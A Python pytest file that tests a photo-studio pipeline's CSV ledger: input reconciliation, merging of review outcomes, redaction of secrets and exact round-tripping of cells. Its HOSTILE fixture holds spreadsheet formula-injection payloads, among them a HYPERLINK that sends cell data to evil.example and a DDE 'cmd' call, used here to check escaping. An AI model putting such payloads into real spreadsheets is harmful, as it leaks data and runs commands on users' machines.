"""The ledger: one row per input, reconciliation, and review outcomes that are never lost."""

from __future__ import annotations

import csv
import io
import json
import os

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cutline.domain.items import ImageItem, JobLayout
from cutline.records.ledger import (
    ReconciliationError,
    read_ledger,
    record_review_outcome,
    write_ledger,
)
from cutline.records.tally import reconcile
from rules.engine import Lane


def _item(index: int, lane: Lane, **extra) -> ImageItem:
    return ImageItem(
        index=index,
        source=f"/shoot/{index}.jpg",
        source_name=f"{index}.jpg",
        image_id=str(index),
        sha256=f"{index:064d}",
        lane=lane,
        reasons="why",
        error="boom" if lane == Lane.FAILED else "",
        **extra,
    )


def test_reconcile_counts_every_lane():
    items = [_item(0, Lane.AUTO), _item(1, Lane.REVIEW), _item(2, Lane.FAILED)]
    assert reconcile([i.source for i in items], items) == {"auto": 1, "review": 1, "failed": 1}


@pytest.mark.parametrize(
    ("items", "message"),
    [
        # An input the ledger forgot is the worst outcome: the run must fail loudly.
        ([_item(0, Lane.AUTO)], "1 missing from the ledger: /shoot/1.jpg"),
        # The same file twice would double-publish it.
        (
            [_item(0, Lane.AUTO), _item(1, Lane.AUTO), _item(1, Lane.REVIEW)],
            "listed more than once",
        ),
        # A file without a lane is not accounted for.
        (
            [
                _item(0, Lane.AUTO),
                ImageItem(index=1, source="/shoot/1.jpg", source_name="1.jpg", image_id="1"),
            ],
            "without a lane",
        ),
        # A failure needs a reason a producer can act on.
        (
            [_item(0, Lane.AUTO), _item(1, Lane.AUTO).model_copy(update={"lane": Lane.FAILED})],
            "failed without a reason",
        ),
    ],
)
def test_reconcile_refuses_a_ledger_that_loses_or_doubles_files(items, message):
    with pytest.raises(ReconciliationError, match=message):
        reconcile(["/shoot/0.jpg", "/shoot/1.jpg"], items)


def test_review_decided_before_the_ledger_exists_is_merged_when_it_is_written(tmp_path):
    layout = JobLayout(str(tmp_path / "JOB-1"))
    waiting = _item(1, Lane.REVIEW, review_state="queued", review_run_id="run-1")
    decided = waiting.model_copy(
        update={"review_state": "approved", "reviewed_by": "Ana", "png": "/x.png", "dam_id": "cl-1"}
    )
    record_review_outcome(layout, decided)  # the retoucher was quicker than the shoot
    write_ledger([_item(0, Lane.AUTO), waiting], layout)
    rows = {r["source_name"]: r for r in read_ledger(layout.ledger)}
    assert rows["1.jpg"]["review_state"] == "approved" and rows["1.jpg"]["reviewed_by"] == "Ana"
    assert rows["1.jpg"]["png"] == "/x.png" and rows["1.jpg"]["dam_id"] == "cl-1"
    assert rows["0.jpg"]["lane"] == "auto"


def test_review_decided_after_the_ledger_updates_its_row_and_survives_a_rerun(tmp_path):
    layout = JobLayout(str(tmp_path / "JOB-1"))
    waiting = _item(1, Lane.REVIEW, review_state="queued")
    write_ledger([_item(0, Lane.AUTO), waiting], layout)
    record_review_outcome(
        layout, waiting.model_copy(update={"review_state": "rejected", "review_note": "reshoot"})
    )
    assert {r["source_name"]: r["review_state"] for r in read_ledger(layout.ledger)}[
        "1.jpg"
    ] == "rejected"
    write_ledger([_item(0, Lane.AUTO), waiting], layout)  # rerun of the shoot
    assert {r["source_name"]: r["review_note"] for r in read_ledger(layout.ledger)}[
        "1.jpg"
    ] == "reshoot"


def test_outcome_for_old_content_is_not_applied_to_a_reshot_file(tmp_path):
    layout = JobLayout(str(tmp_path / "JOB-1"))
    old = _item(1, Lane.REVIEW)
    record_review_outcome(layout, old.model_copy(update={"review_state": "approved"}))
    reshot = old.model_copy(update={"sha256": "f" * 64, "review_state": "queued"})
    write_ledger([reshot], layout)
    assert read_ledger(layout.ledger)[0]["review_state"] == "queued"
    assert (
        json.loads((tmp_path / "JOB-1" / "reviews" / "1.json").read_text())["sha256"] == old.sha256
    )


HOSTILE = {
    "sku": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "reviewed_by": "+SUM(1)",
    "review_note": "-2+3+cmd|' /C calc'!A0",
    "campaign": "@import",
    "category": "'=already quoted",
}


def test_no_ledger_cell_starts_a_spreadsheet_formula(tmp_path):
    layout = JobLayout.for_job(str(tmp_path), "CSV-1")
    item = _item(0, Lane.AUTO, **HOSTILE)
    write_ledger([item], layout)
    text = (tmp_path / "CSV-1" / "ledger.csv").read_text()
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert not [c for c in cells if c[:1] in "=+-@\t\r" and c], "a cell would run as a formula"
    # Read back, every value is what the studio wrote.
    (row,) = read_ledger(str(tmp_path / "CSV-1" / "ledger.csv"))
    for column, value in HOSTILE.items():
        assert row[column] == value, column


def test_a_review_outcome_written_into_the_ledger_is_spreadsheet_safe_too(tmp_path):
    layout = JobLayout.for_job(str(tmp_path), "CSV-2")
    item = _item(0, Lane.REVIEW)
    write_ledger([item], layout)
    decided = item.model_copy(update={"reviewed_by": "=1+1", "review_note": "+note"})
    record_review_outcome(layout, decided)
    text = (tmp_path / "CSV-2" / "ledger.csv").read_text()
    assert "'=1+1" in text and "'+note" in text
    (row,) = read_ledger(str(tmp_path / "CSV-2" / "ledger.csv"))
    assert row["reviewed_by"] == "=1+1" and row["review_note"] == "+note"


def test_a_failure_reason_never_carries_a_password_or_an_authorization_value():
    item = _item(0, Lane.AUTO)
    item.fail(
        "register",
        'POST https://ops:hunter22@dam.example/assets failed: {"Authorization": "Bearer abc.def"}',
    )
    assert "hunter22" not in item.error and "abc.def" not in item.error
    assert "https://[redacted]@dam.example/assets" in item.error


# Any text a manifest or a retoucher can put in a cell: carriage returns (Excel's line break
# inside a cell), line feeds, quotes, commas, formula starts, NUL-free Unicode.
_CELL = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    max_size=30,
) | st.sampled_from(["A\rB", "\r", "x\r\n", '"q"', "=1+1", "'=x", "-", "a,b", "\n\n"])


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(sku=_CELL, reasons=_CELL, note=_CELL, brief_like=_CELL)
def test_every_cell_reads_back_exactly_as_written(tmp_path, sku, reasons, note, brief_like):
    # A bare '\r' in an SKU once split a ledger row in two on reading: 4 files read back as
    # 9 rows, and the run withdrew its own fresh asset. Spool and ledger must round-trip.
    from cutline.records.tally import ShootTally

    item = _item(0, Lane.REVIEW, sku=sku, campaign=brief_like, review_note=note)
    item.reasons = reasons
    other = _item(1, Lane.AUTO, sku="plain")
    folder = tmp_path / os.urandom(4).hex()
    layout = JobLayout(str(folder / "job"))
    with ShootTally(spool_root=folder / "spool") as tally:
        tally.add(0, [item, other])
        assert [row["sku"] for row in tally.ledger_rows()] == [sku, "plain"]
        tally.write_ledger(layout)
    rows = read_ledger(layout.ledger)
    assert len(rows) == 2
    assert (rows[0]["sku"], rows[0]["reasons"], rows[0]["review_note"], rows[0]["campaign"]) == (
        sku,
        reasons,
        note,
        brief_like,
    )
